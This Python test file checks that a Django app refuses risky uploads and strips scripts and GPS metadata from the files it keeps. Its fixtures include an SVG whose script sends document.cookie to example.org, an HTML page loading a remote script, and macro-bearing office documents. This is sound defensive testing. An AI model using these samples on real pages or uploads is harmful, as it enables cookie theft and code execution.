"""Files as real programmes write them, sent through the page: each that may run or unpack is refused with words, each kept one comes out clean."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile

import pytest
from django.urls import reverse

from havre.register.attachments.kinds import COMPOUND, MOST_BYTES
from havre.register.models import Attachment, AttachmentCopy
from havre.trust.enums import Role
from tests.factories_site import make_case_now, make_now, signed_in
from tests.factories_vault import unlocked  # noqa: F401
from tests.register.test_attachments import JPEG, pdf, png, upload

pytestmark = pytest.mark.usefixtures("unlocked")
# where the photograph was taken: degrees, minutes and hundredths of seconds north, then west
PLACE = ((5, 36, 1332), (0, 11, 1320))
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'


@pytest.fixture(autouse=True)
def _static(settings, tmp_path):
    settings.STATIC_ROOT = tmp_path


def zipped(files: dict[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def document(*, macro: bool) -> bytes:
    """A word-processor document, deflated as its programme writes it, with or without a macro project (ECMA-376 part 2)."""
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    files = {
        "[Content_Types].xml": TYPES.format(f'<Override PartName="/word/document.xml" ContentType="{kind}"/>').encode(),
        "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
        "word/document.xml": b"<w:document><w:body><w:p>Dear colleague</w:p></w:body></w:document>" * 40,
    }
    return zipped(files | ({"word/vbaProject.bin": COMPOUND + bytes(512)} if macro else {}))


def open_document_with_script() -> bytes:
    """An OpenDocument text with a Basic module; its kind stands first and is not deflated (OpenDocument 1.3 part 2, 3.3)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        archive.writestr("Basic/Standard/Module1.xml", b"<script:module/>")
        archive.writestr("META-INF/manifest.xml", b"<manifest:manifest/>")
    return out.getvalue()


def tarred() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        inner = zipped({"photo.png": png()})
        told = tarfile.TarInfo("photos.zip")
        told.size = len(inner)
        archive.addfile(told, io.BytesIO(inner))
    return out.getvalue()


SVG = b"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><script>fetch("//example.org/"+document.cookie)</script>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject></svg>"""
HTML = b"""<!doctype html>\n<html lang="en"><head><meta charset="utf-8"><title>Letter</title></head>
<body><p>Dear colleague</p><script src="https://example.org/a.js"></script></body></html>"""
REFUSED = [
    ("drawing.svg", SVG, "SVG drawing"),
    ("drawing.jpg", SVG, "SVG drawing"),
    ("letter.html", HTML, "web page"),
    ("letter.txt", HTML, "web page"),
    ("letter.docm", document(macro=True), "with macros"),
    ("letter.docx", document(macro=True), "with macros"),
    ("letter.odt", open_document_with_script(), "with macros"),
    ("letter.doc", COMPOUND + bytes(504) + "_VBA_PROJECT".encode("utf-16-le") + bytes(512), "with macros"),
    ("letter.docx", document(macro=False), "office document"),
    ("photos.zip", zipped({"a/b.zip": zipped({"c.zip": zipped({"photo.png": png()})})}), "archive"),
    ("photos.png", zipped({"photo.png": png()}, zipfile.ZIP_STORED), "archive"),
    ("photos.tar.gz", tarred(), "archive"),
    ("photo.pdf", png(40, 30), "name says PDF"),
    ("letter.png", pdf(), "name says PNG"),
    ("letter.pdf", b"a letter in plain words", "name says PDF"),
    ("letter.txt", b"a" * (MOST_BYTES + 1), "8 MB"),
    ("photo.png", png() + bytes(MOST_BYTES), "8 MB"),
]


@pytest.mark.parametrize(("name", "data", "words"), REFUSED, ids=[f"{n}-{name}" for n, (name, _data, _words) in enumerate(REFUSED)])
def test_file_that_may_run_unpack_or_deceive_is_refused_beside_the_field_and_nothing_is_kept(name, data, words):
    owner = make_now(Role.CASE_MANAGER)
    case = make_case_now(owner)
    answer = upload(signed_in(owner), case, data, name)
    assert (answer.status_code, words in answer.content.decode()) == (422, True)
    assert not Attachment.objects.for_house("tests").exists()
    assert not AttachmentCopy.objects.for_house("tests").exists()


def exif() -> bytes:
    """An APP1 segment with a GPS directory, as a telephone writes it (Exif 2.32, 4.6.6): big-endian, latitude and longitude as rationals."""
    entries = 4
    values = 8 + 2 + 12 + 4 + 2 + 12 * entries + 4
    directory = struct.pack(">H", entries)
    for tag, letter, place in ((1, b"N", 0), (3, b"W", 1)):
        directory += struct.pack(">HHI4s", tag, 2, 2, letter + bytes(3))
        directory += struct.pack(">HHII", tag + 1, 5, 3, values + place * 24)
    directory += struct.pack(">I", 0)
    numbers = b"".join(struct.pack(">6I", d, 1, m, 1, s, 100) for d, m, s in PLACE)
    first = struct.pack(">H", 1) + struct.pack(">HHII", 0x8825, 4, 1, 8 + 2 + 12 + 4) + struct.pack(">I", 0)
    body = b"Exif\x00\x00MM\x00*" + struct.pack(">I", 8) + first + directory + numbers
    return b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body


def place_in(data: bytes) -> tuple[tuple[int, ...], ...] | None:
    """Where a picture says it was taken, read as any viewer reads it; None when it does not say."""
    start = data.find(b"Exif\x00\x00")
    if start < 0:
        return None
    tiff = data[start + 6 :]
    order = ">" if tiff[:2] == b"MM" else "<"

    def tags(at: int) -> dict[int, int]:
        (count,) = struct.unpack_from(f"{order}H", tiff, at)
        rows = (struct.unpack_from(f"{order}HHII", tiff, at + 2 + 12 * n) for n in range(count))
        return {tag: value for tag, _kind, _count, value in rows}

    gps = tags(tags(struct.unpack_from(f"{order}I", tiff, 4)[0])[0x8825])
    found = (struct.unpack_from(f"{order}6I", tiff, gps[tag]) for tag in (2, 4))
    return tuple((d, m, s) for d, _1, m, _2, s, _3 in found)


def kept(data: bytes, name: str) -> tuple[bytes, bytes]:
    """What the page hands out of a file that it took: the clean copy, and the sealed original."""
    owner = make_now(Role.CASE_MANAGER)
    case, client = make_case_now(owner), signed_in(owner)
    assert upload(client, case, data, name).status_code == 302
    made = Attachment.objects.for_house("tests").get()
    return tuple(client.get(reverse(address, args=[case.ref, made.pk])).content for address in ("case_file", "case_file_original"))


def test_photograph_of_a_telephone_loses_the_place_where_it_was_taken():
    photograph = JPEG[:2] + exif() + JPEG[2:]
    assert place_in(photograph) == PLACE
    copy, original = kept(photograph, "IMG_2041.JPG")
    assert (place_in(copy), b"Exif" in copy, b"GPS" in copy) == (None, False, False)
    # for evidence, and behind the second factor, as it came
    assert original == photograph


def test_pdf_with_a_script_comes_out_without_it():
    letter = pdf(pages=2)
    assert b"/JavaScript" in letter and b"/OpenAction" in letter and b"EmbeddedFiles" in letter
    copy, original = kept(letter, "letter.pdf")
    for gone in (b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"EmbeddedFile", b"/Annot", b"/AcroForm", b"/Author", b"canary"):
        assert gone not in copy
    assert (copy[:5], original) == (b"%PDF-", letter)
